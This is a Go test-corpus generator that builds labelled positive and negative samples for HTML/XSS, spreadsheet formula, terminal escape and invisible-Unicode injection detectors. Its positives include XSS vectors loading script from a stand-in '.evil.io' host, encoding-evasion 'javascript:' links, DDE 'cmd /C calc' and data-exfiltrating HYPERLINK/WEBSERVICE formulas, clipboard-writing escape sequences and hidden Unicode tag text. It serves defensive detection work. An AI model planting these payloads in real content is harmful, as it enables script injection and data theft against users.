package corpus

import (
	"fmt"
	"strings"
)

func (m *maker) markup() {
	for range 30 {
		x := m.from(lowerLetters, 5)
		for _, v := range []string{
			"<script>alert('" + x + "')</script>", "<script src=\"https://" + x + ".evil.io/a.js\"></script>", "<img src=x onerror=alert(" + x + ")>",
			"<svg/onload=fetch('//" + x + ".io')>", "<iframe src=\"https://" + x + ".io\"></iframe>", "<a href=\"javascript:alert('" + x + "')\">",
			"<a href=\"java&#x73;cript:" + x + "()\">", "<a href=' JaVaScRiPt:" + x + "()'>", "<body onload=\"" + x + "()\">", "<ScRiPt>" + x + "()</sCrIpT >",
			"<form action=\"https://" + x + ".io\"><input name=p></form>", "<meta http-equiv=\"refresh\" content=\"0;url=https://" + x + ".io\">", "<details open ontoggle=" + x + "()>",
			"<object data=\"https://" + x + ".io/a.swf\"></object>", "<a\nhref=\"java\tscript:" + x + "()\">", "<div onmouseover = '" + x + "()'>", "<link rel=stylesheet href=//" + x + ".io/c.css>",
		} {
			m.plant("html", "html.active", m.of("%", "Hello % there", "{\"bio\":\"%\"}", "<p>%</p>", "a\n%\nb"), v)
		}
		m.plant("html", "html.active", "[click](%)", "javascript:"+x+"(1)")
		m.plant("html", "html.tag", m.of("%", "text % more"), m.of("<div class=\""+x+"\">", "<img src=\"a.png\">", "<table>", "<h1>", "<p style=\"color:red\">", "<a href=\"https://acme.io\">", "<span id="+x+">"))
	}
	for range 60 {
		not := func(format string, args ...any) { m.not("html", fmt.Sprintf(format, args...)) }
		not("if a < b && c > d { return %d }", m.n(1, 9))
		not("var m map[string]List<String> = new HashMap<Integer, %s>()", m.of("User", "T", "String"))
		not("#include <stdio.h>\nvector<int> v; x << %d", m.n(1, 9))
		not("mail Bob <bob@acme.io> or see <https://%s>", m.host())
		not("use the `<script>` tag sparingly, said %s", m.of("Anna", "the book"))
		not("x <- c(1,2); y <= %d; a -> b; <3", m.n(1, 99))
		not("the javascript: scheme and on-call duty, onboarding=%d", m.n(1, 9))
		not("replace <name> and <your-id> with %d", m.n(1, 99))
		not("temperature <%d°C and pressure >%d", m.n(1, 50), m.n(1, 9))
		not("fn f<T: Clone>(x: &T) -> Option<T> { %d }", m.n(1, 9))
		not("ratio 3<4<5, heredoc <<EOF\nabc%d\nEOF", m.n(1, 9))
	}
}

func (m *maker) formulas() {
	for range 30 {
		x := m.from(lowerLetters, 5)
		for _, v := range []string{
			"=HYPERLINK(\"http://" + x + ".io/?\"&A1,\"ok\")", "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://" + x + ".io\")", "@SUM(1+1)*cmd|' /C " + x + "'!A0",
			"+SUM(A1:A9)", "-IMPORTXML(\"http://" + x + ".io\",\"//a\")", "=1+1", "=A1+B2", "=IMPORTDATA(CONCAT(\"http://" + x + ".io/\",A1))",
			"=SUM(A1:A" + m.from("123456789", 2) + ")", "=DDE(\"cmd\";\"/C calc\";\"" + x + "\")",
		} {
			m.under("formula", "formula", "cell", v)
			if strings.ContainsAny(v, "(|") {
				m.plant("formula", "formula", "^name,note\nbob,\"%\"\n", strings.ReplaceAll(v, `"`, `""`))
			}
		}
	}
	for range 55 {
		not := func(format string, args ...any) {
			m.out = append(m.out, Sample{Detector: "formula", Text: fmt.Sprintf(format, args...)})
		}
		not("-%d.%d", m.n(1, 99), m.n(1, 99))
		not("+49 151 %d", m.n(1000000, 9999999))
		not("- item one (first)\n- item two (second)\n+ added (%d)", m.n(1, 9))
		not("@bob please look (soon), %s", m.from(lowerLetters, 5))
		not("=== Heading (%d) ===", m.n(1, 9))
		not("--flag=%d (optional)", m.n(1, 9))
		not("=> returns (x, y), -> arrow")
		not("a = b(c)\nx = %d\n", m.n(1, 9))
		not("name,value\nbob,-%d\nann,+%d (est.)\n", m.n(1, 99), m.n(1, 99))
		not("@@ -%d,7 +%d,6 @@ func main() {\n-\told()\n+\tnew(1)\n", m.n(1, 99), m.n(1, 99))
		not("-----BEGIN CERTIFICATE-----")
		not("@Override\npublic void run() {}")
		not("+1 for this (really)")
	}
}

func (m *maker) terminals() {
	for range 45 {
		x := m.from(lowerLetters, 5)
		for _, v := range []string{
			"\x1b]8;;http://" + x + ".io\x1b\\", "\x1b]52;c;" + m.from(alnum, 24) + "\a", "\x1b[2J", "\x1b[1;1H", "\x1b]0;" + x + "\a", "\u009b2K", "\x1bc", "\x1b[?25l", "\x1bP" + x + "\x1b\\", "\b\b\b", "\u009d0;" + x + "\u009c",
		} {
			m.plant("terminal", "terminal", m.of("log % end", "%", "{\"out\":\"%\"}"), v)
		}
		not := func(format string, args ...any) { m.not("terminal", fmt.Sprintf(format, args...)) }
		not("\x1b[32mok\x1b[0m %d passed", m.n(1, 99))
		not("line one\r\nline two\r\n\tindented %d", m.n(1, 9))
		not("\\x1b[2J as text, \\u009b, ^[[A %d", m.n(1, 9))
		not("Ärger, Größe, naïve, %d°, £%d, ©", m.n(1, 9), m.n(1, 99))
		not("array[2J] m[%d;%dH", m.n(1, 9), m.n(1, 9))
		not("日本語テキスト %d, Привет", m.n(1, 99))
	}
}

func (m *maker) invisible() {
	hidden := func() (kind, text string) {
		n := m.n(3, 30)
		switch m.r.IntN(5) {
		case 0:
			var b strings.Builder
			for _, c := range m.from(lowerLetters, n) {
				b.WriteRune(0xe0000 + c)
			}
			return "unicode.tag", b.String()
		case 1:
			return "unicode.bidi", m.of("\u202e", "\u2066", "\u202d", "\u2067", "\u202a")
		case 2:
			return "unicode.invisible", strings.Repeat(m.of("\u200b", "\u2060", "\ufeff", "\u200c", "\u200d", "\u3164", "\u2063"), m.n(1, 6))
		case 3:
			var b strings.Builder
			for range n {
				b.WriteRune(0xfe00 + rune(m.n(0, 15)))
			}
			return "unicode.variation", b.String()
		}
		var b strings.Builder
		for range n {
			b.WriteRune(0xe0100 + rune(m.n(0, 200)))
		}
		return "unicode.variation", b.String()
	}
	for range 320 {
		kind, text := hidden()
		m.plant("unicode", kind, m.of("hello% world", "the %name of it", "{\"description\":\"Adds numbers.%\"}", "de%lete file"), text)
	}
	for range 60 {
		not := func(format string, args ...any) { m.not("unicode", fmt.Sprintf(format, args...)) }
		not("family %s, number %d", m.of("👨\u200d👩\u200d👧\u200d👦", "👩🏽\u200d💻", "🏳️\u200d🌈", "❤️\u200d🔥", "🧑\u200d🚀", "🤷🏻\u200d♂️"), m.n(1, 9))
		not("%s and %d️⃣ ✔️ ☀️ ©️", m.of("❤️", "✈️", "⚠️", "☎️"), m.n(0, 9))
		not("flag %s", m.of("🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "🇩🇪", "🇯🇵"))
		not("%s", m.of("می\u200cخواهم کتاب\u200cها را", "क्\u200dष और नमस्ते", "شركة\u200f (2024)", "שלום\u200f!", "ශ්\u200dරී ලංකා"))
		not("Größe, naïve, Ångström, Žižek, ﬁne %d", m.n(1, 9))
		not("日本語。漢字かな交じり文 %d、中文，한국어", m.n(1, 99))
		m.out = append(m.out, Sample{Detector: "unicode", Text: fmt.Sprintf("\ufeffname,value\na,%d", m.n(1, 9))})
		not("“quotes” – dashes — ellipsis… nbsp\u00a0here %d", m.n(1, 9))
		not("Donau\u00addampf\u00adschiff %d", m.n(1, 9))
		not("Ω ≈ ∑ → ⇒ ∀x∈ℝ, %d½", m.n(1, 9))
	}
}
